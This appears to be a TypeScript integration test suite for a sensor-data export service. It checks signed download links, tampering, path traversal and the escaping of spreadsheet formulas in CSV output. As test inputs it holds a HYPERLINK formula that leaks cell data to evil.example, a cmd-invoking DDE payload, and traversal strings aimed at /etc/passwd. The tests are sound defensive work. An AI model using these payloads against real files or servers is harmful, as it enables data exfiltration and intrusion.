import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hourMs, hourStart, iso, makeRow, registerSensor, report } from '../support/builders.ts';
import { until } from '../support/client.ts';
import type { Person } from '../support/people.ts';
import { type House, isApart, openHouse, placements } from '../support/placements.ts';

const formula = '=HYPERLINK("http://evil.example/?"&A1)';
const sum = '@SUM(1+1)*cmd|x';
const hours = 6;

const requestExport = /* GraphQL */ `
  mutation($input: RequestExportInput!) {
    requestExport(input: $input) { __typename ... on ExportRequested { export { id } } ... on ExportProblems { problems { field code reason } } }
  }
`;
const askExport = /* GraphQL */ `
  query($id: ID!) { export(id: $id) { status problems { code reason } files { name url bytes sha256 } } }
`;
const cancelExport = /* GraphQL */ `
  mutation($input: CancelExportInput!) { cancelExport(input: $input) { __typename } }
`;

interface FileTold {
  readonly name: string;
  readonly url: string;
  readonly bytes: number;
  readonly sha256: string;
}

/** Probe 49, and 48 in what really comes out: addresses of files are good for whom they were made, and for nothing else. */
describe.each(placements)('downloads, with %s', (placement) => {
  let house: House;
  let ana: Person;
  let ben: Person;
  const span = { from: iso(hourStart(hours)), to: iso(hourStart()) };

  beforeAll(async () => {
    house = await openHouse(placement);
    await registerSensor(house.client, { name: formula });
    const rows = Array.from({ length: hours }, (_, hour) => {
      const start = hourStart(hour + 1);
      return makeRow({ periodStart: iso(start), periodEnd: iso(start + hourMs), value: -1.5, source: sum });
    });
    await report(house.client, rows);
    [ana, ben] = [await house.member('a'), await house.member('b')];
    await until(
      async () => (await fetch(direct())).status,
      (status) => status === 200,
    );
  }, 120_000);
  afterAll(() => house?.end());

  const direct = (more = '') =>
    `${house.url}/v1/readings.csv?sensorId=roof-1&columns=full&from=${span.from}&to=${span.to}${more}`;
  const as = ({ token }: Person) => ({ authorization: `Bearer ${token}` });
  const ask = async (person: Person, query: string, variables: Record<string, unknown>) => {
    const response = await fetch(`${house.url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...as(person) },
      body: JSON.stringify({ query, variables }),
    });
    const { data, errors } = await response.json();
    if (errors) throw new Error(JSON.stringify(errors));
    return Object.values(data)[0] as Record<string, never>;
  };
  const makeExport = async (person: Person): Promise<string> => {
    const input = { sensorIds: ['roof-1'], columns: 'FULL', compression: 'NONE', ...span };
    const outcome = await ask(person, requestExport, { input });
    expect(outcome).toMatchObject({ __typename: 'ExportRequested' });
    return (outcome as unknown as { export: { id: string } }).export.id;
  };
  const filesOf = async (person: Person, id: string): Promise<readonly FileTold[]> => {
    const found = await until(
      async () =>
        (await ask(person, askExport, { id })) as unknown as { status: string; files: readonly FileTold[] },
      ({ status }) => status !== 'QUEUED' && status !== 'RUNNING',
      60_000,
    );
    expect(found).toMatchObject({ status: 'READY', problems: [] });
    // wherever the outside is told to find the house
    return found.files.map((file) => {
      const { pathname, search } = new URL(file.url);
      return { ...file, url: `${house.url}${pathname}${search}` };
    });
  };
  const fileOf = async (person: Person, id: string, name: string): Promise<FileTold> => {
    const files = await filesOf(person, id);
    const file = files.find((one) => one.name === name);
    if (file === undefined) throw new Error(`no ${name} among ${files.map((one) => one.name).join(', ')}`);
    return file;
  };
  const refusal = async (url: string, headers: Record<string, string> = {}) => {
    const response = await fetch(url, { headers, redirect: 'manual' });
    return [response.status, (await response.json()).error.code];
  };

  describe('an address', () => {
    let mine: FileTold;
    let others: FileTold;
    beforeAll(async () => {
      const [a, b] = [await makeExport(ana), await makeExport(ben)];
      mine = await fileOf(ana, a, 'readings.csv');
      others = await fileOf(ben, b, 'readings.csv');
    }, 120_000);

    it('gives the file that the export tells of, to whoever holds it, and to Ana by her token', async () => {
      for (const headers of [{}, as(ana)]) {
        const response = await fetch(mine.url, { headers });
        expect(response.status).toBe(200);
        const bytes = Buffer.from(await response.arrayBuffer());
        expect([bytes.length, createHash('sha256').update(bytes).digest('hex')]).toEqual([
          mine.bytes,
          mine.sha256,
        ]);
      }
    });

    it('is nothing beside the token of another, not even of the Admin, or beside a forged one', async () => {
      expect(await refusal(mine.url, as(ben))).toEqual([403, 'FORBIDDEN']);
      expect(await refusal(others.url, as(ana))).toEqual([403, 'FORBIDDEN']);
      expect(await refusal(mine.url, await house.asAdmin())).toEqual([403, 'FORBIDDEN']);
      expect(await refusal(mine.url, { authorization: 'Bearer forged' })).toEqual([401, 'UNAUTHENTICATED']);
    });

    it('that was changed in any part is refused in the same words', async () => {
      const url = new URL(mine.url);
      const [, idOfBen] = /exports\/([^/]+)\//.exec(others.url) as unknown as [string, string];
      const [, idOfAna] = /exports\/([^/]+)\//.exec(mine.url) as unknown as [string, string];
      const query = (name: string, value: string): string => {
        const changed = new URL(url);
        changed.searchParams.set(name, value);
        return changed.href;
      };
      const theirs = new URL(others.url).searchParams;
      const changed = [
        mine.url.replace(idOfAna, idOfBen),
        mine.url.replace('readings.csv', 'manifest.json'),
        mine.url.replace('readings.csv', 'readings.csv%00'),
        mine.url.replace('readings.csv', 'readings.csv%2F'),
        query('until', String(Number(url.searchParams.get('until')) + hourMs)),
        query('until', `0${url.searchParams.get('until')}`),
        query('for', theirs.get('for') as string),
        query('signature', theirs.get('signature') as string),
        query('signature', ''),
        mine.url.replace(/\?.*/, ''),
      ];
      const words = new Set<string>();
      for (const one of changed) {
        const response = await fetch(one);
        const { error } = await response.json();
        expect([response.status, error.code], one).toEqual([403, 'FORBIDDEN']);
        words.add(error.message);
      }
      expect(words.size).toBe(1);
    });

    it('with steps in it leads nowhere', async () => {
      const encoded = [
        '..%2F..%2Fexports%2Freadings.csv',
        '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
        '..%5creadings.csv',
      ];
      for (const steps of [
        '../manifest.json',
        '....//readings.csv',
        ...encoded,
        '%',
        '%ff',
        'x'.repeat(2_000),
      ]) {
        const { status } = await fetch(mine.url.replace('readings.csv', steps));
        expect([400, 403, 404], steps).toContain(status);
      }
    });

    it('names no account, and stands in no other answer', async () => {
      expect(mine.url).not.toContain(ana.id);
      const files = await ask(ben, askExport, { id: /exports\/([^/]+)\//.exec(mine.url)?.[1] });
      expect(files).toBeNull();
    });

    it('gives any part, and none behind the end', async () => {
      const part = await fetch(mine.url, { headers: { range: 'bytes=0-7' } });
      expect([part.status, part.headers.get('content-range')]).toEqual([206, `bytes 0-7/${mine.bytes}`]);
      expect(await part.text()).toBe('sensorId');
      expect(await refusal(mine.url, { range: `bytes=${mine.bytes}-` })).toEqual([
        416,
        'RANGE_NOT_SATISFIABLE',
      ]);
    });

    it.runIf(isApart(placement))('is judged by the room itself in the same way', async () => {
      const atRoom = (url: string) => url.replace(house.url, house.roomUrl('exports'));
      expect((await fetch(atRoom(mine.url))).status).toBe(200);
      expect(await refusal(atRoom(mine.url), as(ben))).toEqual([403, 'FORBIDDEN']);
    });

    it('is gone with the export that is cancelled', async () => {
      const id = await makeExport(ana);
      const { url } = await fileOf(ana, id, 'readings.csv');
      await ask(ana, cancelExport, { input: { id } });
      expect(await refusal(url)).toEqual([410, 'GONE']);
    });
  });

  describe('no cell is run by a spreadsheet', () => {
    const cells = (text: string) => (parse(text) as string[][]).flat();
    const isRun = (cell: string) =>
      /^[=+@\t\r]/.test(cell) || (cell.startsWith('-') && Number.isNaN(Number(cell)));

    it('of an export: neither what sensors are called, nor where readings come from', async () => {
      const id = await makeExport(ana);
      const text = async (name: string) => (await fetch((await fileOf(ana, id, name)).url)).text();
      const [readings, sensors] = [await text('readings.csv'), await text('sensors.csv')];
      expect(cells(sensors)).toContain(`'${formula}`);
      expect(cells(readings)).toContain(`'${sum}`);
      // numbers are numbers
      expect(cells(readings)).toContain('-1.5');
      expect([...cells(readings), ...cells(sensors)].filter(isRun)).toEqual([]);
    });

    it('of what is answered at once', async () => {
      const found = cells(await (await fetch(direct())).text());
      expect(found).toContain(`'${sum}`);
      expect(found.filter(isRun)).toEqual([]);
    });
  });

  it('what is answered at once is what an export holds', async () => {
    const id = await makeExport(ana);
    const { url } = await fileOf(ana, id, 'readings.csv');
    expect(await (await fetch(direct())).text()).toBe(await (await fetch(url)).text());
  });

  it('what is answered at once names all that is wrong with what is asked', async () => {
    const response = await fetch(`${house.url}/v1/readings.csv?from=now&sensors=roof-1&layout=tall`);
    const { error, problems } = await response.json();
    expect([response.status, error.code]).toEqual([400, 'BAD_INPUT']);
    const fields = problems.map(({ field }: { field: string }) => field).sort();
    expect(fields).toEqual(['from', 'layout', 'query', 'to']);
  });
});
